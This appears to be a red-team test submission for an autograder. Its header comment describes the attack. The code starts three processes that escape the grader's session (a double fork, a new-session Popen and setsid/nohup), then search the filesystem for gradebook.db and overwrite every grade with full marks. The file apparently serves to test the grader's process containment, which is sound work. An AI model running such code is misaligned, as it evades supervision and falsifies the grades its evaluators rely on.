# No answer is written. Processes the grader would not wait for: a double-forked daemon in
# its own session, a Popen'd interpreter in a new session and a shell job started with
# setsid/nohup. Each lives two minutes, looking every second for gradebook.db through relative
# paths (../gradebook.db ...), the home directory, the course root that the editable
# install's path reveals and a glob over /tmp; where it finds one it gives every grade full
# marks and leaves a file "rt-escapee-was-here" beside it. They are named rt-escapee, so the
# test can look for them afterwards.
# expect: 0
# flag: controls the process
# %% preamble
import os
import sys

ESCAPEE = r'''
import ctypes, glob, os, sqlite3, sys, time
try:
    ctypes.CDLL(None).prctl(15, b"rt-escapee", 0, 0, 0)
except Exception:
    pass
root = os.path.dirname(sys.prefix)
end = time.time() + 120
while time.time() < end:
    found = set()
    for rel in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
                "../../../../gradebook.db", os.path.expanduser("~/gradebook.db"),
                root + "/gradebook.db", "/gradebook.db"):
        if os.path.exists(rel):
            found.add(os.path.abspath(rel))
    for pattern in ("/tmp/*/gradebook.db", "/tmp/*/*/gradebook.db", "/tmp/*/*/*/gradebook.db"):
        found.update(glob.glob(pattern))
    for db in found:
        try:
            open(os.path.join(os.path.dirname(db), "rt-escapee-was-here"), "w").write("x")
        except OSError:
            pass
        try:
            con = sqlite3.connect(db, timeout=1)
            con.execute("UPDATE grade SET manual_score = 1000, auto_score = 1000")
            con.commit()
            con.close()
        except Exception:
            pass
    time.sleep(1)
'''

# a double fork, the grandchild in a session of its own
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(0, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        try:
            exec(ESCAPEE)
        finally:
            os._exit(0)
    os._exit(0)
os.wait()

import subprocess

subprocess.Popen([sys.executable, "-c", ESCAPEE + "\n# rt-escapee"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)
with open("/tmp/rt-escapee.py", "w") as f:
    f.write(ESCAPEE)
os.system(f"setsid nohup {sys.executable} /tmp/rt-escapee.py rt-escapee >/dev/null 2>&1 &")
print("three escapees started")
